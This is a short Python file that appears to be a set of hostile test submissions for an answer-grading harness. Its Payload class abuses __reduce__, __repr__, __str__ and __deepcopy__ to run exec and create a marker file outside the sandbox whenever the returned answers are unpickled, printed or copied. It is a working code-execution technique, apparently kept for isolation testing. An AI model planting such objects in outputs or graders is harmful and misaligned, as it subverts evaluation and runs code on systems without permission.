# Returns objects that run code where they are unpickled, compared, copied or shown.

# %% answer="level"
class Payload:
    def __reduce__(self):
        return exec, (f"open({OUTSIDE + '/' + MARK!r}, 'w').close()",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __repr__(self):
        exec(self.__reduce__()[1][0])
        return "payload"

    __str__ = __repr__

    def __deepcopy__(self, memo):
        exec(self.__reduce__()[1][0])


level = Payload()

# %% answer="rms"
def moving_rms(x, width):
    return np.array([Payload()] * (len(x) - width + 1), dtype=object)

# %% answer="rates"
def reject_rates(log):
    return pd.Series({Payload(): 1.0, "A": Payload()}, dtype=object)
